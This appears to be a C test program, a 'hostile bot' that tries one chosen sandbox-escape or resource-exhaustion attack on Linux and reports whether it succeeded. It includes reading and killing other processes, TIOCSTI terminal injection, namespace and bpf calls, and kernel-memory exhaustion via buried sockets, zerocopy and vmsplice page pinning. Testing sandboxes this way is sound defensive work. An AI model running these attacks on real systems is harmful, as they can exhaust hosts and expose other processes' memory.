/* One hostile bot in C: argument 1 is the attack, the others say where its aims are. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static int is(const char *a, const char *b) { return !strcmp(a, b); }

/* says what a system call came to: none that may be refused is to be had */
static const char *went(long result) { return result >= 0 ? "went-through" : strerror(errno); }

static const char *memory(pid_t pid) {
	static char text[1 << 16];
	char path[64], line[512];
	unsigned long from = 0, to = 0;
	snprintf(path, sizeof path, "/proc/%d/maps", pid);
	FILE *maps = fopen(path, "r");
	while (maps && fgets(line, sizeof line, maps))
		if (strstr(line, "[stack]"))
			sscanf(line, "%lx-%lx", &from, &to);
	if (!from)
		return "no maps";
	unsigned long size = to - from < sizeof text ? to - from : sizeof text;
	struct iovec mine = {text, size}, theirs = {(void *)(to - size), size};
	long n = process_vm_readv(pid, &mine, 1, &theirs, 1, 0);
	for (long i = 0; i < n; i++)
		if (text[i] < ' ' || text[i] == '"' || text[i] == '\\' || (unsigned char)text[i] > 126)
			text[i] = '.';
	return n > 0 ? (text[n - 1] = 0, text) : strerror(errno);
}

/* memory that is none of this process's: how much of it, in MB, is held long enough to be seen */
static const char *held(void) {
	usleep(1500 * 1000);
	return "went-through";
}

enum { CHUNK = 32 << 20 };

/* shared memory that is filled, and then given back: all of it, but for the memory itself, or but for a page */
static const char *fill(size_t size, int unmapped) {
	char *p = mmap(0, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (p == MAP_FAILED)
		return strerror(errno);
	memset(p, 1, size);
	if (unmapped ? munmap(p + 4096, size - 4096) : madvise(p, size, MADV_DONTNEED))
		return strerror(errno);
	return NULL;
}

static const char *shared(int megabytes, int unmapped) {
	for (int i = 0; i < megabytes / 32; i++) {
		const char *why = fill(CHUNK, unmapped);
		if (why)
			return why;
	}
	return held();
}

/* the same in many processes, of which each has little, once all of them have it */
static const char *crowd(int megabytes) {
	int told[2], n = megabytes / 32;
	char one;
	if (pipe(told))
		return strerror(errno);
	for (int i = 0; i < n; i++) {
		pid_t pid = fork();
		if (pid < 0)
			return strerror(errno);
		if (pid == 0) {
			close(told[0]);
			if (!fill(CHUNK, 0))
				one = write(told[1], "x", 1);
			pause();
		}
	}
	close(told[1]);
	for (int i = 0; i < n; i++)
		if (read(told[0], &one, 1) != 1)
			return "some are gone";
	return held();
}

/* a page in every 2 MB, which nobody needs: each has a table of its own */
static const char *tables(int megabytes) {
	unsigned long each = 2 << 20, size = megabytes * 256UL * each;
	volatile char *p = mmap(0, size, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	if (p == MAP_FAILED)
		return strerror(errno);
	madvise((void *)p, size, MADV_NOHUGEPAGE);
	for (unsigned long at = 0; at < size; at += each)
		(void)p[at];
	return held();
}

/* a pair of sockets, full of messages that nobody takes */
static int full(int pair[2]) {
	static char text[1 << 16];
	if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair))
		return -1;
	for (int side = 0; side < 2; side++) {
		int size = 1 << 20;
		setsockopt(pair[side], SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
		while (send(pair[side], text, sizeof text, MSG_DONTWAIT) > 0)
			;
	}
	return 0;
}

static void many_files(void) {
	struct rlimit most;
	getrlimit(RLIMIT_NOFILE, &most);
	most.rlim_cur = most.rlim_max;
	setrlimit(RLIMIT_NOFILE, &most);
}

/* sockets whose number is all there is of them */
static const char *buffers(int sockets) {
	int pair[2];
	many_files();
	for (int i = 0; i < sockets / 2; i++)
		if (full(pair))
			return strerror(errno);
	return held();
}

/* sends sockets to another, and closes them */
static int bury(int grave, int *batch, int n) {
	char room[CMSG_SPACE(n * sizeof *batch)];
	memset(room, 0, sizeof room);
	struct iovec one = {"x", 1};
	struct msghdr m = {.msg_iov = &one, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof room};
	struct cmsghdr *h = CMSG_FIRSTHDR(&m);
	h->cmsg_level = SOL_SOCKET, h->cmsg_type = SCM_RIGHTS, h->cmsg_len = CMSG_LEN(n * sizeof *batch);
	memcpy(CMSG_DATA(h), batch, n * sizeof *batch);
	int failed = sendmsg(grave, &m, MSG_DONTWAIT) < 0;
	for (int i = 0; i < n; i++)
		close(batch[i]);
	return failed;
}

/* sockets that are themselves in messages, and closed; also to sockets that are in a message themselves */
static const char *buried(int sockets, int twice) {
	enum { BATCH = 200 };
	int grave[2], inner[2], batch[BATCH];
	many_files();
	if (socketpair(AF_UNIX, SOCK_STREAM, 0, grave))
		return strerror(errno);
	for (int done = 0; done < sockets; done += BATCH) {
		for (int i = 0; i < BATCH; i += 2)
			if (full(batch + i))
				return strerror(errno);
		if (twice && socketpair(AF_UNIX, SOCK_STREAM, 0, inner))
			return strerror(errno);
		if (bury(twice ? inner[0] : grave[0], batch, BATCH) || (twice && bury(grave[0], inner, 2)))
			return strerror(errno);
	}
	return held();
}

/* connections that nobody takes, full of messages, and closed by who made them */
static const char *backlog(int connections) {
	static char text[1 << 16];
	struct sockaddr_un name = {.sun_family = AF_UNIX};
	socklen_t length;
	int listener = -1;
	many_files();
	for (int i = 0; i < connections; i++) {
		if (i % 1000 == 0) {
			length = sizeof name;
			listener = socket(AF_UNIX, SOCK_STREAM, 0);
			if (listener < 0 || bind(listener, (void *)&name, sizeof(sa_family_t)) || listen(listener, 1000) || getsockname(listener, (void *)&name, &length))
				return strerror(errno);
		}
		int fd = socket(AF_UNIX, SOCK_STREAM, 0);
		if (fd < 0 || connect(fd, (void *)&name, length))
			return strerror(errno);
		while (send(fd, text, sizeof text, MSG_DONTWAIT) > 0)
			;
		close(fd);
	}
	return held();
}

/* sockets that have more messages than one's sender may have sent */
static const char *many_senders(int receivers) {
	static char text[200000];
	struct sockaddr_un name;
	socklen_t length;
	many_files();
	for (int i = 0; i < receivers; i++) {
		int receiver = socket(AF_UNIX, SOCK_DGRAM, 0), sender;
		name.sun_family = AF_UNIX, length = sizeof name;
		if (receiver < 0 || bind(receiver, (void *)&name, sizeof(sa_family_t)) || getsockname(receiver, (void *)&name, &length))
			return strerror(errno);
		do {
			sender = socket(AF_UNIX, SOCK_DGRAM, 0);
		} while (sendto(sender, text, sizeof text, MSG_DONTWAIT, (void *)&name, length) > 0 && !close(sender));
		close(sender);
	}
	return held();
}

/* files that are watched again and again, by thousands */
static const char *watches(int thousands) {
	int ends[2], many[2000];
	many_files();
	if (pipe(ends))
		return strerror(errno);
	for (int i = 0; i < 2000; i++)
		many[i] = dup(ends[0]);
	for (int done = 0; done < thousands; done += 2) {
		int watch = epoll_create1(0);
		struct epoll_event what = {.events = EPOLLIN};
		for (int i = 0; i < 2000; i++)
			if (epoll_ctl(watch, EPOLL_CTL_ADD, many[i], &what))
				return strerror(errno);
	}
	return held();
}

/* files of which every second byte is locked, 500 in each */
static const char *locked(int files, int command) {
	char name[4096];
	many_files();
	for (int done = 0; done < files; done++) {
		snprintf(name, sizeof name, "%s/locksXXXXXX", getenv("TMPDIR") ?: "/tmp");
		int fd = mkstemp(name);
		if (fd < 0)
			return strerror(errno);
		unlink(name);
		for (int i = 0; i < 500; i++) {
			struct flock one = {.l_type = F_WRLCK, .l_start = 2 * i, .l_len = 1};
			if (fcntl(fd, command, &one))
				return strerror(errno);
		}
	}
	return held();
}

/* one call that makes what was written here and there a huge page */
static const char *collapse(void) {
	unsigned long huge = 2 << 20;
	char *all = mmap(0, 2 * huge, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	char *p = (char *)(((unsigned long)all + huge - 1) & ~(huge - 1));
	*p = 1;
	madvise(p, huge, MADV_HUGEPAGE);
	return went(madvise(p, huge, 25 /* MADV_COLLAPSE */));
}

/* rules of what a program may do, 65,536 in each set */
static const char *rules(int sets) {
	unsigned long handled[2] = {0, 1 /* bind of TCP */};
	struct { unsigned long allowed, port; } rule = {1, 0};
	many_files();
	for (int i = 0; i < sets; i++) {
		int set = syscall(444 /* landlock_create_ruleset */, handled, sizeof handled, 0);
		if (set < 0)
			return strerror(errno);
		for (rule.port = 0; rule.port < 65536; rule.port++)
			if (syscall(445 /* landlock_add_rule */, set, 2 /* of a port */, &rule, 0))
				return strerror(errno);
	}
	return held();
}

/* huge pages that nobody has but for small pieces that a socket is to send */
static const char *unsent(int sockets) {
	static char text[1 << 14];
	unsigned long huge = 2 << 20;
	struct sockaddr_in name = {.sin_family = AF_INET, .sin_addr = {htonl(INADDR_LOOPBACK)}};
	socklen_t length = sizeof name;
	int listener = socket(AF_INET, SOCK_STREAM, 0), one = 1, waiting;
	if (listener < 0 || bind(listener, (void *)&name, sizeof name) || listen(listener, 100) || getsockname(listener, (void *)&name, &length))
		return strerror(errno);
	for (int i = 0; i < sockets; i++) {
		int fd = socket(AF_INET, SOCK_STREAM, 0);
		if (connect(fd, (void *)&name, length) || setsockopt(fd, SOL_SOCKET, SO_ZEROCOPY, &one, sizeof one))
			return strerror(errno);
		do {
			if (send(fd, text, sizeof text, MSG_DONTWAIT) < 0)
				break;
			usleep(1000);
		} while (!ioctl(fd, TIOCOUTQ, &waiting) && !waiting);
		for (int n = 0; n < 20; n++) {
			char *all = mmap(0, 2 * huge, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
			char *p = (char *)(((unsigned long)all + huge - 1) & ~(huge - 1));
			madvise(p, huge, MADV_HUGEPAGE);
			memset(p, 1, huge);
			long sent = send(fd, p, 4096, MSG_DONTWAIT | MSG_ZEROCOPY);
			munmap(all, 2 * huge);
			if (sent != 4096)
				break;
		}
	}
	return held();
}

/* huge pages that nobody has but for a small piece in a pipe */
static const char *pieces(int megabytes) {
	unsigned long huge = 2 << 20;
	int ends[2];
	many_files();
	for (int done = 0; done < megabytes; done += 2) {
		if (done % 30 == 0 && pipe(ends))
			return strerror(errno);
		char *all = mmap(0, 2 * huge, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (all == MAP_FAILED)
			return strerror(errno);
		char *p = (char *)(((unsigned long)all + huge - 1) & ~(huge - 1));
		madvise(p, huge, MADV_HUGEPAGE);
		memset(p, 1, huge);
		struct iovec one = {p, 4096};
		if (vmsplice(ends[1], &one, 1, SPLICE_F_NONBLOCK) != 4096)
			return strerror(errno);
		munmap(all, 2 * huge);
	}
	return held();
}

/* buffers that are larger than at first */
static const char *larger_pipe(void) {
	int ends[2];
	return pipe(ends) ? strerror(errno) : went(fcntl(ends[1], F_SETPIPE_SZ, 1 << 20));
}

static const char *larger_socket(void) {
	int pair[2], before, after;
	socklen_t length = sizeof before;
	if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair))
		return strerror(errno);
	getsockopt(pair[0], SOL_SOCKET, SO_SNDBUF, &before, &length);
	after = before;
	setsockopt(pair[0], SOL_SOCKET, SO_SNDBUF, &after, sizeof after); /* which the kernel doubles */
	getsockopt(pair[0], SOL_SOCKET, SO_SNDBUF, &after, &length);
	return after > before ? "went-through" : "nothing";
}

static const char *attack(int n, char **a) {
	if (is(a[0], "read-memory"))
		return memory(atoi(a[1]));
	if (is(a[0], "ptrace")) {
		long r = ptrace(PTRACE_SEIZE, atoi(a[1]), 0, 0);
		if (r == 0)
			ptrace(PTRACE_INTERRUPT, atoi(a[1]), 0, 0), kill(atoi(a[1]), SIGKILL);
		return went(r);
	}
	if (is(a[0], "write-memory")) {
		static char zero[4096];
		char path[64];
		snprintf(path, sizeof path, "/proc/%d/mem", atoi(a[1]));
		return went(open(path, O_RDWR));
	}
	if (is(a[0], "shm")) {
		int id = shmget(atoi(a[1]), 4096, IPC_CREAT | 0666);
		return went(id);
	}
	if (is(a[0], "semaphore"))
		return went(semget(atoi(a[1]), 1, IPC_CREAT | 0666));
	if (is(a[0], "keyring"))
		return went(syscall(SYS_add_key, "user", a[1], "attacked", 8, -4));
	if (is(a[0], "terminal-input")) {
		int fd = open(a[1], O_RDWR | O_NOCTTY);
		if (fd < 0)
			return strerror(errno);
		setsid();
		ioctl(fd, TIOCSCTTY, 1);
		return went(ioctl(fd, TIOCSTI, "x"));
	}
	if (is(a[0], "namespaces"))
		return went(unshare(CLONE_NEWUSER | CLONE_NEWNS));
	if (is(a[0], "clone"))
		return went(syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0) ?: (_exit(0), 0));
	if (is(a[0], "bpf"))
		return went(syscall(SYS_bpf, 0, (char[128]){1, 0, 0, 0, 4, 0, 0, 0, 8, 0, 0, 0, 1}, 72));
	if (is(a[0], "io_uring"))
		return went(syscall(SYS_io_uring_setup, 4, (char[256]){0}));
	if (is(a[0], "userfaultfd"))
		return went(syscall(SYS_userfaultfd, 0));
	if (is(a[0], "perf")) {
		unsigned attr[32] = {1, 128};
		return went(syscall(SYS_perf_event_open, attr, 0, -1, -1, 0));
	}
	if (is(a[0], "handle")) {
		struct { struct file_handle h; char room[128]; } f = {.h.handle_bytes = 128};
		int id;
		return went(syscall(SYS_name_to_handle_at, AT_FDCWD, "/", &f.h, &id, 0));
	}
	if (is(a[0], "mount"))
		return went(mount("none", a[1], "tmpfs", 0, "size=4k"));
	if (is(a[0], "device"))
		return went(mknod("device", S_IFBLK | 0600, makedev(254, 0)));
	if (is(a[0], "inherited")) { /* whatever is open besides the three */
		for (int fd = 3; fd < 1024; fd++)
			if (write(fd, "attacked", 8) == 8)
				return "went-through";
		return "nothing";
	}
	if (is(a[0], "shared"))
		return shared(atoi(a[1]), 0);
	if (is(a[0], "unmapped"))
		return shared(atoi(a[1]), 1);
	if (is(a[0], "shared-crowd"))
		return crowd(atoi(a[1]));
	if (is(a[0], "tables"))
		return tables(atoi(a[1]));
	if (is(a[0], "buffers"))
		return buffers(atoi(a[1]));
	if (is(a[0], "pieces"))
		return pieces(atoi(a[1]));
	if (is(a[0], "larger-pipe"))
		return larger_pipe();
	if (is(a[0], "larger-socket"))
		return larger_socket();
	if (is(a[0], "backlog"))
		return backlog(atoi(a[1]));
	if (is(a[0], "many-senders"))
		return many_senders(atoi(a[1]));
	if (is(a[0], "watches"))
		return watches(atoi(a[1]));
	if (is(a[0], "locked"))
		return locked(atoi(a[1]), F_SETLK);
	if (is(a[0], "locked-open"))
		return locked(atoi(a[1]), F_OFD_SETLK);
	if (is(a[0], "collapse"))
		return collapse();
	if (is(a[0], "rules"))
		return rules(atoi(a[1]));
	if (is(a[0], "unsent"))
		return unsent(atoi(a[1]));
	if (is(a[0], "buried"))
		return buried(atoi(a[1]), 0);
	if (is(a[0], "buried-twice"))
		return buried(atoi(a[1]), 1);
	if (is(a[0], "vsock"))
		return went(socket(AF_VSOCK, SOCK_STREAM, 0));
	if (is(a[0], "packet"))
		return went(socket(AF_PACKET, SOCK_RAW, 0));
	if (is(a[0], "hang-keeper")) {
		for (int s = 1; s < 65; s++)
			kill(getppid(), s);
		return "sent";
	}
	return "unknown";
}

int main(int n, char **a) {
	char line[1 << 16];
	if (!fgets(line, sizeof line, stdin))
		return 1;
	for (int i = 2; i < n; i++)
		a[i]++; /* each with a sign before it: nobody is to take it for a path */
	const char *said = attack(n - 1, a + 1);
	printf("{\"response\":[-1,-1,-1],\"debug\":\"%s\"}\n", said);
	return 0;
}
